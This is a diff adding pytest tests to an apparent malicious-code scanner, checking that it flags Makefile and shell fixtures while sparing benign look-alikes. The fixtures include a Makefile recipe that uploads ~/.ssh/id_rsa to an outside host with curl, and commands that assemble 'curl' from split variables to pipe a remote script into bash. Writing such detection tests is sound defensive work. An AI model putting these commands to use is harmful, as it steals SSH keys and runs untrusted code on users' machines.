@@ -83,6 +83,37 @@ def test_the_cells_of_a_notebook_are_python_or_shell(engine):
     )
 
 
+def test_the_variables_of_a_makefile_are_put_into_its_recipes(engine):
+    theft = "PLACE := $(HOME)/.ssh\nKEY = $(PLACE)/id_rsa\nTO=https://box.northlane.io/k\nall: a\n\techo $(NAME)\nx:\n\tcurl -sT $(KEY) $(TO)\n"
+    assert malice(engine, {"Makefile": theft}) == [("Makefile", 7, "EX-011")]
+    assert not malice(engine, {"Makefile": theft.replace("/.ssh", "/notes").replace("/id_rsa", "/a.txt")})
+    # A justfile has other variables, and leaves these to the shell.
+    assert not malice(engine, {"justfile": theft})
+
+
+@pytest.mark.parametrize(
+    ("recipe", "held"),
+    [
+        ("$(A)$(B) https://box.northlane.io/i | bash", True),
+        ("$(A)$(lastword x rl) https://box.northlane.io/i | bash", True),
+        ("$(CURL) https://box.northlane.io/i | bash", False),
+        ("$(BIN)/curl https://box.northlane.io/i | bash", False),
+        ("python$(VERSION) -m pip install a", False),
+        ("$$(command -v curl) https://box.northlane.io/i | bash", False),
+    ],
+)
+def test_the_name_of_a_command_that_is_put_together_is_told_from_a_variable(engine, recipe, held):
+    variables = "A = cu\nB = rl -s\nCURL ?= curl\nBIN := /usr/bin\nVERSION = 3\nC = $(C)$(C)\n"
+    assert bool(malice(engine, {"Makefile": f"{variables}x:\n\t@{recipe}\n"})) is held
+
+
+def test_the_name_of_a_command_is_put_together_in_a_script_too(engine):
+    assert malice(engine, {"a.sh": "a=cu\nb=rl\n$a$b https://box.northlane.io/i | bash\n"})
+    assert malice(engine, {"a.sh": 'a=cu\n"${a}rl" https://box.northlane.io/i | bash\n'})
+    assert not malice(engine, {"a.sh": "a=/usr/bin/\n${a}curl https://box.northlane.io/i | bash\n"})
+    assert not malice(engine, {"a.sh": 'a=3\n"python${a}" a.py\n"$HOME/bin/python$a" a.py\n'})
+
+
 @pytest.mark.parametrize("path", ["a.html", "a.svg", "a.vue"])
 def test_scripts_of_pages_are_read(engine, path):
     script = (
